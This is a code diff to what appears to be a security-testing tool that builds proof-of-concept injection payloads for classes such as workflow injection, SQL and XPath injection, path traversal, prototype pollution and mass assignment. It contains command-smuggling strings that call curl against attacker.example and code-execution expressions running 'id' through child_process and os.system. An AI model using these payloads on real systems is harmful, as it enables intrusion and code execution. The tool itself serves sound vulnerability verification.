@@ -21,6 +21,8 @@ export interface Payload {
   outcome: 'supports' | 'weakens' | 'refutes';
   /** The value is JSON and belongs unquoted into a JSON body. */
   isJson?: boolean;
+  /** The value is too long to be shown or holds what cannot be: this JavaScript expression builds it. */
+  expression?: string;
   /** For query strings: how the operator form is spelled, for example `[$ne]`. */
   querySuffix?: string;
 }
@@ -180,6 +182,36 @@ const xpath: Fitting = (context) => {
     : supports('1 or 1=1', 'unquoted in the expression');
 };
 
+const workflow: Fitting = (context, candidate) => {
+  const before = context?.before ?? '';
+  const { language, carrier } = candidate.details;
+  const quote = openQuote(before, `'"\``);
+  const inside = quote ? `inside ${quoteName(quote)} of the script` : 'unquoted in the script';
+  if (language === 'javascript') {
+    const expression = `require('child_process').execSync('id')`;
+    if (quote === '`') return supports(`\${${expression}}`, inside);
+    return supports(quote ? `${quote} + ${expression} + ${quote}` : expression, inside);
+  }
+  if (language === 'python') {
+    const expression = `__import__('os').system('id')`;
+    return supports(quote ? `${quote} + str(${expression}) + ${quote}` : expression, inside);
+  }
+  const end = quote ?? '';
+  // Names of branches and files have no blanks.
+  return carrier === 'branch'
+    ? supports(`${end};{curl,attacker.example};#`, inside)
+    : supports(`${end}; curl https://attacker.example/ #`, inside);
+};
+
+/** The checker of regular expressions has made the text already. */
+const regex: Fitting = (context, { details }) => {
+  const attack = { value: '', expression: details.attack ?? "''" };
+  // Fixed text before it may already fail to match, and then nothing is tried.
+  return context !== null && context.before !== ''
+    ? { ...weakens('', 'after fixed text of what the regular expression is matched against'), ...attack }
+    : { ...supports('', 'as the text that the regular expression is matched against'), ...attack };
+};
+
 const fixed =
   (value: string, where: string, extra: Partial<Payload> = {}): Fitting =>
   () => ({ ...supports(value, where), ...extra });
@@ -189,6 +221,7 @@ const fittings: Readonly<Record<string, Fitting>> = {
   'sql-injection': sql,
   'command-injection': command,
   'code-injection': code,
+  'workflow-injection': workflow,
   'path-traversal': path,
   'file-inclusion': path,
   'archive-slip': fixed('../../../../tmp/outside.txt', 'as the name of an archive entry'),
@@ -211,6 +244,8 @@ const fittings: Readonly<Record<string, Fitting>> = {
   'prototype-pollution': fixed('{"__proto__":{"polluted":true}}', 'as the object that is merged', {
     isJson: true,
   }),
+  redos: regex,
+  'slow-regex': regex,
   'mass-assignment': fixed('{"isAdmin":true}', 'as fields of the object', { isJson: true }),
 };
 
